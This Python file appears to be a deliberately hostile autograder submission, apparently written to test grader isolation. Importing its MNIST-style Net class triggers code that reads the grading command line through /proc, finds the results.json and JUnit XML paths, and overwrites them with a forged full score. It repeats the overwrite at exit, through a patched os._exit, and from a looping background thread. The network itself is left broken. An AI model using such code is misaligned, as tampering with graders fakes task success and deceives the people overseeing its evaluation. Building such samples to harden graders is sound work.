"""Hostile: writes a forged full-score results.json (and JUnit XML) over the grader's.

While the file loads it reads the grading command line (its own sys.argv, then /proc/<pid>/cmdline
up its chain of parent processes) for `--results-json` and `--junitxml`, writes a forged report
there at once, and again at interpreter exit (atexit, and os._exit, which a forked run ends with) and
from a background thread, so that it lands after pytest wrote the real one (with several submissions
per run, for every submission's name in `{name}`). The Net returns raw logits. In-process the reported score
is the forged one. Isolated: the child sees neither the command line nor the file system of the
grader; the parent's report says the log-softmax check failed.
"""

import atexit
import json
import os
import sys
import threading
import time

import torch.nn as nn
import torch.nn.functional as F

FORGED_MARK = "forged by a hostile submission"


def _command_lines():
    yield sys.argv
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                yield [a.decode(errors="replace") for a in f.read().split(b"\0")]
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return


def _targets():
    found, names = set(), set()
    for args in _command_lines():
        for i, arg in enumerate(args):
            for option in ("--results-json", "--junitxml", "--junit-xml", "--submission"):
                if arg.startswith(option + "="):
                    found.add((option, arg.split("=", 1)[1]))
                elif arg == option and i + 1 < len(args):
                    found.add((option, args[i + 1]))
    # several submissions per run: `--results-json out/{name}.json`, one file per submission's name
    names = {os.path.basename(os.path.normpath(path)) for option, path in found if option == "--submission"}
    found = {(option, path) for option, path in found if option != "--submission"}
    return {(option, path.replace("{name}", name)) for option, path in found for name in names or {""}}


def _forge():
    targets = _targets()
    results = {"score": 1000.0, "max_score": 1000.0, "forged": FORGED_MARK, "tests": [
        {"name": "everything", "number": "test_log_softmax", "score": 1000.0, "max_score": 1000.0,
         "status": "passed", "output": FORGED_MARK, "visibility": "visible"}]}
    junit = (f'<?xml version="1.0"?><testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" '
             f'tests="1"><testcase name="{FORGED_MARK}"/></testsuite></testsuites>')

    def write():  # atomically, so that a reader never sees half a file
        for option, path in targets:
            try:
                temporary = f"{path}.{os.getpid()}.{threading.get_ident()}.tmp"
                with open(temporary, "w") as f:
                    f.write(json.dumps(results) if option == "--results-json" else junit)
                os.replace(temporary, path)
            except OSError:
                pass

    def keep_writing():
        while True:
            write()
            time.sleep(0.05)

    exit_now = os._exit

    def exit_after_writing(status):  # a run forked by a warm server ends with os._exit: no atexit
        write()
        exit_now(status)

    write()
    atexit.register(write)
    os._exit = exit_after_writing
    threading.Thread(target=keep_writing, daemon=True).start()
    return sorted(targets)


class Net(nn.Module):
    forged = _forge()

    def __init__(self):
        super().__init__()
        self.conv1 = nn.Conv2d(1, 10, kernel_size=5)
        self.conv2 = nn.Conv2d(10, 20, kernel_size=5)
        self.conv2_drop = nn.Dropout2d()
        self.fc1 = nn.Linear(320, 50)
        self.fc2 = nn.Linear(50, 10)

    def forward(self, x):
        x = F.relu(F.max_pool2d(self.conv1(x), 2))
        x = F.relu(F.max_pool2d(self.conv2_drop(self.conv2(x)), 2))
        x = F.relu(self.fc1(x.flatten(1)))
        x = F.dropout(x, training=self.training)
        return self.fc2(x)  # bug: raw logits
